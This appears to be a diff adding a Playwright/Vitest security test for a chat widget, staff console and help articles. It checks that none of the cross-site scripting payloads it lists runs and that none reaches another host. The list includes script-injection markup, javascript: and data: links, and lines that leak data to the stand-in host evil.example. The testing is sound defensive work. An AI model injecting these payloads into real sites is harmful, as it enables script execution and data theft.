@@ -1,0 +1,129 @@
+import { mkdirSync, writeFileSync } from 'node:fs'
+import { join } from 'node:path'
+import { describe, expect, it } from 'vitest'
+import { SENTINEL } from '../browser/chromium.ts'
+import { openConsole } from './support/console.ts'
+import { journey } from './support/journey.ts'
+import { ana } from './support/staff.ts'
+import { openWidget } from './support/widget.ts'
+import { startConversation } from './support/wire.ts'
+
+const desk = journey({}, [ana])
+const ran = `${SENTINEL}('seen')`
+
+/** Text that a careless page would run or load; each calls the sentinel or asks another host. */
+const hostile = [
+  `<script>${ran}</script>`,
+  `<img src=x onerror="${ran}">`,
+  `<svg onload=${ran}>`,
+  `<svg><script>${ran}</script></svg>`,
+  `<iframe srcdoc="<script>parent.${ran}</script>"></iframe>`,
+  `<details open ontoggle=${ran}>more</details>`,
+  `<math><mtext><table><mglyph><style><img src=x onerror="${ran}">`,
+  `"><body onload=${ran}>`,
+  `<a href="javascript:${ran}">plain</a>`,
+  `[link](javascript:${ran})`,
+  `[entities](&#106;avascript&colon;${ran})`,
+  `[split](java\tscript:${ran})`,
+  `[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
+  `<form action="https://evil.example/"><input name=q autofocus onfocus="${ran}"></form>`,
+  `<base href="https://evil.example/">`,
+  `<style>@import url(https://evil.example/a.css)</style>`,
+  `<link rel=prefetch href="https://evil.example/prefetch">`,
+  `![stolen](https://evil.example/?q=secret)`,
+  `![stolen][ref]\n\n[ref]: https://evil.example/reference`,
+  `{{constructor.constructor("${ran}")()}} \${${ran}}`,
+  `<template><img src=x onerror="${ran}"></template>`,
+]
+const oneLine = (text: string) => text.replace(/\s+/g, ' ')
+
+describe('Hostile text runs no script and asks no other host', () => {
+  it('as a message, in the widget and in the console [S44] [S45] [S46] [S47]', async () => {
+    const visitor = await desk.profile()
+    const widget = await openWidget(await visitor.page(), desk.server.url)
+    await widget.say('I want to talk to a human please')
+    await widget.shows(/in the queue/i)
+    for (const text of hostile) {
+      await widget.field.fill(text)
+      await widget.panel.getByRole('button', { name: 'Send' }).click()
+      await widget.reads(oneLine(text).slice(0, 12))
+    }
+
+    const console = await openConsole(await (await desk.profile()).page(), desk.server.url, ana)
+    await console.open('human')
+    await console.shows('{{constructor')
+    await clickPlainly(console.page.getByRole('log').getByRole('link'))
+    await clickPlainly(widget.log.getByRole('link'))
+
+    await console.takeOver()
+    for (const text of hostile) await console.reply(text)
+    await widget.reads('{{constructor.constructor')
+    expect(visitor.unexpected()).toEqual([])
+  })
+
+  it('as name, page title, page address, referrer and browser name [S44] [S23]', async () => {
+    for (const [at, text] of hostile.entries()) {
+      const name = oneLine(text).slice(0, 120)
+      const page = { url: `https://shop.example/${at}?q=${encodeURIComponent(text)}`, title: oneLine(text) }
+      const headers = { 'user-agent': oneLine(text), referer: `https://evil.example/?${encodeURIComponent(text)}` }
+      const customer = await startConversation(desk.server.url, { contact: { name }, page }, headers)
+      await customer.askForPerson(text)
+    }
+    const profile = await desk.profile()
+    const console = await openConsole(await profile.page(), desk.server.url, ana)
+    const lines = console.list.getByRole('link')
+    await expect.poll(() => lines.count()).toBeGreaterThanOrEqual(hostile.length)
+    const count = await lines.count()
+    for (let at = 0; at < count; at++) {
+      await lines.nth(at).click()
+      await console.page.getByRole('log').waitFor()
+    }
+    expect(profile.unexpected()).toEqual([])
+  })
+
+  it('as an article, quoted in an answer and on its own page [S44] [S46] [S47]', async () => {
+    const front = `---\ntitle: ${JSON.stringify(`Enamel <img src=x onerror="${ran}"> badges`)}\nlang: en\n---\n\n`
+    const text = `Enamel badges are fired at 800 degrees in the small kiln.\n\n${hostile.join('\n\n')}\n\n## Enamel badges again\n\nEnamel badges cost €7 ${hostile[1]} ${hostile[17]} each.\n`
+    mkdirSync(join(desk.server.kb, 'shop'), { recursive: true })
+    writeFileSync(join(desk.server.kb, 'shop/enamel.md'), front + text)
+    await expect.poll(async () => (await fetch(`${desk.server.url}/api/articles/public/shop/enamel`)).status).toBe(200)
+
+    const visitor = await desk.profile()
+    const page = await visitor.page()
+    const widget = await openWidget(page, desk.server.url)
+    await widget.say('How much are enamel badges?')
+    await widget.reads('€7')
+    await widget.say('At how many degrees are enamel badges fired?')
+    await widget.reads('800 degrees')
+    await clickPlainly(widget.log.getByRole('link', { name: /javascript|plain|split|entities|data/ }))
+
+    await page.goto(`${desk.server.url}/help/shop/enamel`)
+    await expect.poll(() => page.locator('body').innerText()).toContain('800 degrees')
+    expect(await page.locator('script:not([src]), iframe, form, base, img').count()).toBe(0)
+    const addresses = await page
+      .locator('a')
+      .evaluateAll((links) => links.map((link) => link.getAttribute('href') ?? ''))
+    expect(addresses.filter((address) => /^\s*(javascript|data):/i.test(address))).toEqual([])
+    expect(visitor.unexpected()).toEqual([])
+  })
+
+  it('does not reorder or hide names: invisible and reversing characters are gone or isolated [S23]', async () => {
+    const customer = await startConversation(desk.server.url, {
+      contact: { name: 'Agent\u202Etroppus\u202C \u200B\u200BAna' },
+    })
+    await customer.askForPerson('spoofed label')
+    const console = await openConsole(await (await desk.profile()).page(), desk.server.url, ana)
+    await console.open('spoofed label')
+    const isolated = console.page.locator('#talk-title bdi')
+    expect(await isolated.count()).toBe(1)
+  })
+})
+
+/** Presses every link that is left, with the new tabs they open closed again. */
+async function clickPlainly(links: import('playwright-core').Locator): Promise<void> {
+  const count = await links.count()
+  for (let at = 0; at < count; at++) {
+    const address = (await links.nth(at).getAttribute('href')) ?? ''
+    expect(address).not.toMatch(/^\s*(javascript|data|vbscript):/i)
+  }
+}
